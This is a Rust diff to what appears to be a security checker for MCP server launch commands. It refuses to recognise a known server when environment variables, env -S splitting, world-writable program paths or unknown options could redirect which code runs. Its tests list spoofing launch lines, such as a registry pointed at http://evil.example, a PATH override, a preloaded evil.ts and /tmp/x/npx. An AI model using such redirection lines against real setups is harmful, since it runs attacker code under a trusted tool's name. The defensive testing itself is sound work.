@@ -10,6 +10,7 @@ use serde::Deserialize;
 use crate::assessment::{Assessment, Confidence, DataFlags, Evidence, EvidencePlace, RiskClass};
 use crate::classify::classify;
 use crate::definition::ToolDefinition;
+use crate::launch;
 use crate::launch::command_line::{CommandLine, Operand, Origin, Registry, same_python};
 
 /// One server of the catalogue.
@@ -99,7 +100,10 @@ impl KnownServer {
         if line.is_for_cmd && line.words.iter().any(has_signs) {
             return None;
         }
-        let operand = line.operand().filter(|operand| !operand.is_altered)?;
+        if is_prepared(command, &line) {
+            return None;
+        }
+        let operand = line.operand().filter(|operand| !operand.is_altered && is_plain(&line, operand))?;
         SERVERS.iter().find(|known| known.is_run_by(&operand))
     }
 
@@ -188,6 +192,111 @@ impl KnownServer {
 
 fn class_with(classes: &FxHashMap<RiskClass, Vec<String>>, tool: &str) -> Option<RiskClass> {
     classes.iter().find(|(_, tools)| tools.iter().any(|known| known == tool)).map(|(class, _)| *class)
+}
+
+/// Options of runners that say nothing of which code is run.
+const ALONE: [&str; 29] = [
+    "-y",
+    "--yes",
+    "-q",
+    "--quiet",
+    "-s",
+    "--silent",
+    "--prefer-offline",
+    "--prefer-online",
+    "--offline",
+    "--no-cache",
+    "--isolated",
+    "--refresh",
+    "-i",
+    "--interactive",
+    "-t",
+    "--tty",
+    "-it",
+    "-ti",
+    "--rm",
+    "--init",
+    "--",
+    "-m",
+    "-B",
+    "-I",
+    "-E",
+    "-u",
+    "-A",
+    "--allow-all",
+    "--no-warnings",
+];
+/// The same with a value, in the next word or after a `=`. A package may be named by one; whether it is run, its reader has said.
+const VALUED: [&str; 24] = [
+    "-p",
+    "--package",
+    "--from",
+    "--spec",
+    "--python",
+    "--cache",
+    "--cache-dir",
+    "--directory",
+    "--project",
+    "-w",
+    "--workspace",
+    "--loglevel",
+    "--color",
+    "-e",
+    "--env",
+    "-v",
+    "--volume",
+    "--mount",
+    "--name",
+    "--network",
+    "--net",
+    "-l",
+    "--label",
+    "--workdir",
+];
+
+/// Does something before the program decide which code it runs, or is the program anybody's?
+fn is_prepared(command: &[&str], line: &CommandLine<'_>) -> bool {
+    let splits = |word: &&str| word.starts_with("-S") || word.starts_with("--split-string");
+    line.variables.iter().any(|(_, name, _)| decides_code(name))
+        || command[..line.skipped].iter().any(splits)
+        || line.words.first().is_some_and(|program| launch::is_world_writable(program))
+}
+
+/// Variables of a command line by which runners, loaders and interpreters are led elsewhere.
+fn decides_code(name: &str) -> bool {
+    let name = name.to_ascii_uppercase();
+    name == "PATH"
+        || [
+            "NPM_CONFIG_",
+            "UV_",
+            "PIP_",
+            "PIPX_",
+            "NODE_",
+            "PYTHON",
+            "LD_",
+            "DYLD_",
+            "DENO_",
+            "BUN_",
+            "YARN_",
+        ]
+        .iter()
+        .any(|prefix| name.starts_with(prefix))
+}
+
+/// An option that nobody here knows may take the next word for itself, so that what looks like the package is none.
+fn is_plain(line: &CommandLine<'_>, operand: &Operand<'_>) -> bool {
+    let mut words = line.words.iter().take(operand.at).skip(1);
+    while let Some(word) = words.next() {
+        if !word.starts_with('-') || ALONE.contains(word) {
+            continue;
+        }
+        match word.split_once('=') {
+            Some((name, _)) if VALUED.contains(&name) => {}
+            None if VALUED.contains(word) => drop(words.next()),
+            _ => return false,
+        }
+    }
+    true
 }
 
 #[cfg(test)]
@@ -321,6 +430,20 @@ mod tests {
         ("sh -c mcp-server-git", None),
         ("mcp", None),
         ("docker run evil/git mcp/git", None),
+        // What an option that is not known here may take for itself, and what is said before the program.
+        ("docker run -id evil/x mcp/git", None),
+        ("podman run --env-host evil/x mcp/git", None),
+        ("npx --tag @playwright/mcp evil", None),
+        ("uvx -P mcp-server-git evil", None),
+        ("uvx --upgrade-package mcp-server-git evil", None),
+        ("node --conditions /x/node_modules/@playwright/mcp/cli.js evil.js", None),
+        ("python -mevil /x/site-packages/mcp_server_git/server.py", None),
+        ("deno run --preload=./evil.ts npm:@playwright/mcp", None),
+        ("env npm_config_registry=http://evil.example npx -y @playwright/mcp", None),
+        ("env UV_INDEX_URL=http://evil.example uvx mcp-server-git", None),
+        ("env PATH=/x npx @playwright/mcp", None),
+        ("env -Snpx\u{a0}evil npx @playwright/mcp", None),
+        ("/tmp/x/npx @playwright/mcp", None),
         ("docker run --entrypoint sh mcp/git", None),
         ("docker run evil.example/mcp/git", None),
         ("", None),
